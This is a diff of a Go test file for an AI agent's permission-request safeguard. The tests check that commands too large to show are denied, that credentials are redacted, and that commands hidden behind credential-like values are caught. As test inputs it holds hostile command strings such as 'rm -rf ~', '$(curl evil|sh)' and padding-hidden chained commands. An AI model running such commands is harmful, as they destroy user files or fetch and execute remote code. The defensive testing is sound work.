@@ -20,7 +20,7 @@ func askFor(command string) contracts.AskSeen {
 	})
 }
 
-// A7: what a person can read whole can be allowed, up to the last byte.
+// A7: a request that can be shown completely can be allowed, up to the last byte.
 func TestAskShowsAll(t *testing.T) {
 	room := contracts.LimitPermission - len(`{"command":""}`)
 	command := strings.Repeat("x", room-1) + "!"
@@ -33,8 +33,8 @@ func TestAskShowsAll(t *testing.T) {
 	}
 }
 
-// A7: nobody may allow what nobody could read.
-func TestAskOffersNoAllowanceUnseen(t *testing.T) {
+// A7: a request that cannot be shown completely can only be denied.
+func TestAskDeniesWhatCannotBeShown(t *testing.T) {
 	for name, command := range map[string]string{
 		"one byte more": strings.Repeat("x", contracts.LimitPermission-len(`{"command":""}`)+1),
 		"hostile":       "echo harmless " + strings.Repeat(" \n", contracts.LimitPermission) + "; rm -rf ~",
@@ -46,7 +46,7 @@ func TestAskOffersNoAllowanceUnseen(t *testing.T) {
 		}
 		for _, text := range []string{q.Prompt, q.Permission.Label} {
 			if !strings.Contains(text, "too large to show completely") || utf8.RuneCountInString(text) > contracts.LimitNote {
-				t.Errorf("%s: the person is told %q", name, text)
+				t.Errorf("%s: the text is %q", name, text)
 			}
 		}
 		if n := utf8.RuneCountInString(q.Permission.Label); n > contracts.LimitPreview {
@@ -59,9 +59,9 @@ func TestAskOffersNoAllowanceUnseen(t *testing.T) {
 	}
 }
 
-// A7: a command does not hide behind a credential; a credential alone is hidden and
-// the rest can be read.
-func TestAskShowsCommandsBehindCredentials(t *testing.T) {
+// A7: a command that looks like a credential can only be denied; a plain credential is
+// hidden and the rest is shown.
+func TestAskDetectsHiddenCommands(t *testing.T) {
 	for _, command := range []string{
 		"OPENAI_KEY=abc;rm -rf ~", "TOKEN=abc&&rm -rf ~ x", "TOKEN=x|sh", `API_TOKEN="x$(curl evil)" ls`, "DB_PASSWORD=a$(curl evil|sh)b make", "tool --password 'x;y' z",
 		"COOKIE=token rm -rf ~", "AUTHORIZATION=basic rm -rf ~", "COOKIE=a=b rm -rf ~", "echo 'rm -rf /srv' | sudo -S sh",
@@ -79,7 +79,7 @@ func TestAskShowsCommandsBehindCredentials(t *testing.T) {
 	}
 }
 
-// H5: a permission request holds no credential, wherever it stands.
+// H5: a permission request contains no credential in any field.
 func TestAskRedacts(t *testing.T) {
 	secret := "DB_PASSWORD=" + random[:20]
 	q := Ask(contracts.AskSeen{Prompt: "May it run: " + secret, Permission: &contracts.Permission{
@@ -91,8 +91,8 @@ func TestAskRedacts(t *testing.T) {
 	}
 }
 
-// A7: that holds for whatever member of the arguments has it, and a preview that the
-// agent cut itself cannot be allowed either.
+// A7: this holds for every member of the arguments, and a preview that the agent truncated
+// can only be denied too.
 func TestAskReadsEveryArgument(t *testing.T) {
 	for args, why := range map[string]string{
 		`{"input_preview":"TOKEN=x;rm -rf ~"}`:                         "may be a command",
